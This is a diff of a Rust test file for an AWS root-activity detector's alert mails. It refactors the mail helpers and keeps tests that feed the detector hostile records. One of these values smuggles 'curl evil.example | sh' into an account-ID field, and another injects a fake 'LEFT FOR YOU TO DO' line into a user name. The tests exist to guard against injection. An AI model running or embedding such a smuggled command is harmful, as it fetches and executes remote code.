@@ -8,11 +8,15 @@
     reason = "a test fails by panicking, also in its helpers"
 )]
 
-use rules::alert::{LONGEST_SUBJECT, render};
-use rules::root_activity::detect::detect;
+#[path = "common/mail.rs"]
+mod mail;
+
+use rules::root_activity::detect::{Finding, detect};
 use rules::root_activity::report::{Folded, report};
-use rules::{Decision, Language, Settings, event};
+use rules::{Decision, Event, Settings, event};
 use serde_json::{Value, json};
+
+use mail::{compare, mails};
 
 #[test]
 fn root_signed_in_with_mfa() {
@@ -137,31 +141,31 @@ fn hostile() {
     let mut record = user_sign_in("kim\r\nLEFT FOR YOU TO DO\nNothing.\u{202e}", "Su\nccess", None);
     record["recipientAccountId"] = json!("123456789012; curl evil.example | sh");
     record["userAgent"] = json!("x".repeat(5_000));
-    let mail = check("hostile", &record, Folded::default());
-    assert_eq!(mail.lines().filter(|line| line.starts_with("LEFT FOR YOU TO DO")).count(), 1, "{mail}");
+    check("hostile", &record, Folded::default());
 }
 
 #[test]
 fn no_command_is_built_from_an_odd_account() {
     let mut record = call("s3", "CreateBucket", false, Value::Null);
     record["recipientAccountId"] = json!("123456789012; curl evil.example | sh");
-    let mail = mail(&record, Folded::default());
-    assert!(mail.contains("--target-principal ACCOUNT_ID "), "{mail}");
+    let (event, finding) = found(&record);
+    let report = |settings: &Settings| report(&event, &finding, Folded::default(), settings.alert_language);
+    for mail in mails(&event, &Settings::default(), report) {
+        assert!(mail.body.contains("--target-principal ACCOUNT_ID "), "{}", mail.body);
+    }
 }
 
-/// Compares the mail about a record with the one in snapshots/.
-fn check(name: &str, record: &Value, folded: Folded) -> String {
-    let mail = mail(record, folded);
-    insta::assert_snapshot!(name, mail);
-    mail
+/// Compares the mail about a record with the ones in snapshots/.
+fn check(name: &str, record: &Value, folded: Folded) {
+    let (event, finding) = found(record);
+    let report = |settings: &Settings| report(&event, &finding, folded, settings.alert_language);
+    compare!(name, &event, &Settings::default(), report);
 }
 
-fn mail(record: &Value, folded: Folded) -> String {
+fn found(record: &Value) -> (Event, Finding) {
     let event = event::parse(record).unwrap();
     let Decision::Incident(finding) = detect(&event, &Settings::default()) else { panic!("not found: {record}") };
-    let mail = render(&report(&event, &finding, folded, Language::English), &event);
-    assert!(mail.subject.is_ascii() && mail.subject.len() <= LONGEST_SUBJECT, "{}", mail.subject);
-    format!("Subject: {}\n\n{}", mail.subject, mail.body)
+    (event, finding)
 }
 
 fn sign_in(name: &str, result: &str, mfa: Option<&str>) -> Value {
